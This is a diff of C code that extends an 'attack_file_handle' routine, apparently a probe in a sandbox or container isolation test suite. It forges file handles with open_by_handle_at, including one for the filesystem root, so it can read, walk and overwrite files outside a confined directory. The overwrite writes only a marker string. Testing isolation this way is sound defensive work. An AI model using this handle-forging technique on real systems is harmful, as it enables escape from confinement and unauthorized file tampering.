@@ -43,13 +43,25 @@ int attack_file_handle(int argc, char** argv) {
   const char* act = argc > 1 ? argv[1] : "";
   union handle handle = {0};
   if (argc == 3 && strcmp(act, "encode") == 0) return encode(argv[2]);
-  if (argc != 4 || (strcmp(act, "open") != 0 && strcmp(act, "root") != 0))
-    return usage("file_handle encode PATH | open ANCHOR HANDLE | root ANCHOR PATH");
+  const int walks = argc == 5 && strcmp(act, "walk") == 0;
+  const int overwrites = argc == 4 && strcmp(act, "overwrite") == 0;
+  if (!walks && !overwrites &&
+      (argc != 4 || (strcmp(act, "open") != 0 && strcmp(act, "root") != 0)))
+    return usage(
+        "file_handle encode PATH | open|overwrite ANCHOR HANDLE | walk ANCHOR HANDLE NAME |"
+        " root ANCHOR PATH");
   int anchor = open(argv[2], O_RDONLY | O_CLOEXEC);
   if (anchor < 0) return refused();
   if (strcmp(act, "open") == 0) {
     if (decode(&handle, argv[3]) < 0) return usage("a handle is TYPE:HEX, as encode prints it");
     return finish_reading(open_by_handle_at(anchor, &handle.head, O_RDONLY));
+  }
+  if (walks || overwrites) {
+    if (decode(&handle, argv[3]) < 0) return usage("a handle is TYPE:HEX, as encode prints it");
+    int fd = open_by_handle_at(anchor, &handle.head, walks ? O_RDONLY | O_DIRECTORY : O_WRONLY);
+    if (fd < 0) return refused();
+    if (overwrites) return finish(write(fd, "changed", 7));
+    return finish_reading(openat(fd, argv[4], O_RDONLY | O_CLOEXEC));
   }
   const uint32_t inode_and_generation[2] = {2, 0};
   handle.head.handle_bytes = sizeof(inode_and_generation);
